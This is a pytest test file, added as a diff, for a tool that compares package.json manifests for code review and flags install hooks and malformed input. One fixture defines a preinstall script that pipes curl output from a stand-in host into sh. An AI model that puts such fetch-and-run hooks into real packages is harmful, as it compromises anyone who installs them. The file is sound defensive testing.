@@ -1,0 +1,234 @@
+"""The semantic package.json diff, and its robustness to hostile manifests."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from reviews.inspect.manifest_diff import (
+    MAX_MANIFEST_BYTES,
+    EntryStatus,
+    Section,
+    diff_manifests,
+    parse_manifest,
+)
+
+
+def manifest(**fields) -> bytes:
+    return json.dumps({"name": "@acme/tool", "version": "1.0.0", **fields}).encode()
+
+
+def test_install_hooks_are_listed_first_and_flagged():
+    old = manifest(scripts={"test": "jest", "build": "tsc", "prepare": "tsc"})
+    new = manifest(
+        scripts={
+            "test": "vitest",
+            "build": "tsc",
+            "postinstall": "node ./collect.js",
+            "preinstall": "curl https://example.invalid/x | sh",
+        }
+    )
+
+    diff = diff_manifests(old, new)
+
+    assert [(c.key, c.status, c.is_install_hook) for c in diff.scripts] == [
+        ("preinstall", EntryStatus.ADDED, True),
+        ("postinstall", EntryStatus.ADDED, True),
+        ("prepare", EntryStatus.REMOVED, True),
+        ("test", EntryStatus.CHANGED, False),
+    ]
+    assert [c.key for c in diff.install_hooks] == ["preinstall", "postinstall", "prepare"]
+    assert diff.scripts[3].old == "jest"
+    assert diff.scripts[3].new == "vitest"
+
+
+def test_binding_gyp_makes_an_implicit_install_hook():
+    old = manifest()
+    new = manifest()
+
+    diff = diff_manifests(old, new, new_has_binding_gyp=True)
+    written = diff_manifests(
+        old, manifest(scripts={"install": "node i.js"}), new_has_binding_gyp=True
+    )
+    opted_out = diff_manifests(old, manifest(gypfile=False), new_has_binding_gyp=True)
+
+    (hook,) = diff.install_hooks
+    assert (hook.key, hook.new, hook.implicit) == ("install", "node-gyp rebuild", True)
+    assert written.install_hooks[0].new == "node i.js"
+    assert not written.install_hooks[0].implicit
+    assert opted_out.install_hooks == ()
+
+
+def test_dependencies_of_every_kind_added_removed_and_changed():
+    old = manifest(
+        dependencies={"left-pad": "^1.0.0", "lodash": "^4.17.0"},
+        devDependencies={"jest": "^29"},
+        optionalDependencies={"fsevents": "^2"},
+    )
+    new = manifest(
+        dependencies={"left-pad": "^1.3.0", "axios": "^1.7.0"},
+        devDependencies={"jest": "^29"},
+        peerDependencies={"react": ">=18"},
+        bundleDependencies=["left-pad"],
+    )
+
+    diff = diff_manifests(old, new)
+
+    assert [(c.section, c.key, c.status, c.old, c.new) for c in diff.dependencies] == [
+        (Section.DEPENDENCIES, "axios", EntryStatus.ADDED, None, "^1.7.0"),
+        (Section.DEPENDENCIES, "left-pad", EntryStatus.CHANGED, "^1.0.0", "^1.3.0"),
+        (Section.DEPENDENCIES, "lodash", EntryStatus.REMOVED, "^4.17.0", None),
+        (Section.PEER_DEPENDENCIES, "react", EntryStatus.ADDED, None, ">=18"),
+        (Section.OPTIONAL_DEPENDENCIES, "fsevents", EntryStatus.REMOVED, "^2", None),
+        (Section.BUNDLE_DEPENDENCIES, "left-pad", EntryStatus.ADDED, None, "bundled"),
+    ]
+
+
+def test_bundled_dependencies_spelling_and_true_mean_the_same():
+    old = manifest(dependencies={"a": "1", "b": "2"})
+    new = manifest(dependencies={"a": "1", "b": "2"}, bundledDependencies=True)
+
+    diff = diff_manifests(old, new)
+
+    assert [(c.section, c.key) for c in diff.dependencies] == [
+        (Section.BUNDLE_DEPENDENCIES, "a"),
+        (Section.BUNDLE_DEPENDENCIES, "b"),
+    ]
+
+
+def test_bin_as_a_string_is_named_after_the_unscoped_package():
+    old = manifest(bin="./cli.js")
+    new = manifest(bin={"tool": "./cli.js", "tool-admin": "./admin.js"})
+
+    diff = diff_manifests(old, new)
+
+    assert [(c.key, c.status, c.new) for c in diff.bin] == [
+        ("tool-admin", EntryStatus.ADDED, "./admin.js")
+    ]
+
+
+def test_entry_points_files_engines_os_and_cpu():
+    old = manifest(
+        main="index.js",
+        exports={".": {"import": "./esm.js", "require": "./cjs.js"}},
+        files=["dist"],
+        engines={"node": ">=18"},
+        os=["linux"],
+    )
+    new = manifest(
+        main="index.js",
+        module="esm.js",
+        exports={".": {"require": "./cjs.js", "import": "./esm.js"}},
+        files=["dist", "scripts"],
+        engines={"node": ">=20", "npm": ">=10"},
+        cpu=["x64"],
+    )
+
+    diff = diff_manifests(old, new)
+
+    assert [(c.key, c.status) for c in diff.fields] == [
+        ("module", EntryStatus.ADDED),
+        ("exports", EntryStatus.CHANGED),  # condition order matters to resolution
+        ("files", EntryStatus.CHANGED),
+        ("os", EntryStatus.REMOVED),
+        ("cpu", EntryStatus.ADDED),
+    ]
+    assert diff.fields[2].new == '["dist","scripts"]'
+    assert [(c.key, c.old, c.new) for c in diff.engines] == [
+        ("node", ">=18", ">=20"),
+        ("npm", None, ">=10"),
+    ]
+
+
+def test_a_first_release_lists_everything_as_added():
+    diff = diff_manifests(
+        None, manifest(scripts={"install": "x"}, dependencies={"a": "1"}), first_release=True
+    )
+
+    assert diff.problems == ()
+    assert [c.status for c in diff.all_changes()] == [EntryStatus.ADDED, EntryStatus.ADDED]
+
+
+def test_no_changes_means_nothing_listed():
+    same = manifest(scripts={"test": "x"}, dependencies={"a": "1"})
+
+    diff = diff_manifests(same, same)
+
+    assert not diff.has_changes
+    assert diff.problems == ()
+
+
+@pytest.mark.parametrize(
+    ("data", "problem"),
+    [
+        (b"[1, 2, 3]", "not a JSON object"),
+        (b'"just a string"', "not a JSON object"),
+        (b"{not json", "not valid JSON"),
+        (b'{"a": NaN}', "not valid JSON"),
+        (b'{"n": ' + b"9" * 5000 + b"}", "not valid JSON"),
+        (b"\xff\xfe{}", "not UTF-8"),
+        (b"[" * 100_000 + b"]" * 100_000, "nests too deeply"),
+        (b" " * (MAX_MANIFEST_BYTES + 1), "over the"),
+        (None, "missing"),
+    ],
+)
+def test_malformed_manifests_become_problems_not_exceptions(data, problem):
+    diff = diff_manifests(manifest(scripts={"test": "x"}), data)
+
+    assert any(problem in text for text in diff.problems), diff.problems
+    assert [c.status for c in diff.scripts] == [EntryStatus.REMOVED]
+
+
+def test_wrong_types_inside_a_manifest_are_problems():
+    new = json.dumps(
+        {
+            "scripts": ["not", "an", "object"],
+            "dependencies": {"a": 1, "b": {"nested": True}},
+            "bin": 42,
+            "bundleDependencies": "yes",
+        }
+    ).encode()
+
+    diff = diff_manifests(manifest(), new)
+
+    assert diff.scripts == ()
+    assert [(c.key, c.new) for c in diff.dependencies] == [("a", "1"), ("b", '{"nested":true}')]
+    assert diff.bin == ()
+    text = " ".join(diff.problems)
+    assert "`scripts` in the staged package.json is not an object" in text
+    assert "values that are not text: a, b" in text
+    assert "`bin`" in text
+    assert "`bundleDependencies`" in text
+
+
+def test_huge_values_are_cut_for_display_but_compared_whole():
+    long_script = "node -e '" + "x" * 100_000 + "'"
+    diff = diff_manifests(
+        manifest(scripts={"postinstall": long_script}),
+        manifest(scripts={"postinstall": long_script + " "}),
+    )
+
+    (change,) = diff.scripts
+    assert change.status is EntryStatus.CHANGED
+    assert change.new is not None
+    assert len(change.new) < 2_100
+    assert "more characters" in change.new
+
+
+def test_thousands_of_dependencies_are_bounded():
+    deps = {f"dep-{i}": "1.0.0" for i in range(5_000)}
+
+    diff = diff_manifests(manifest(), manifest(dependencies=deps))
+
+    assert len(diff.dependencies) == 2_000
+    assert any("More than 2,000 changes" in p for p in diff.problems)
+
+
+def test_a_bom_and_duplicate_keys_are_read_like_json_parse():
+    data = b'\xef\xbb\xbf{"scripts": {"test": "a"}, "scripts": {"test": "b"}}'
+
+    parsed, problems = parse_manifest(data)
+
+    assert problems == []
+    assert parsed["scripts"] == {"test": "b"}  # the last one wins, as in JavaScript
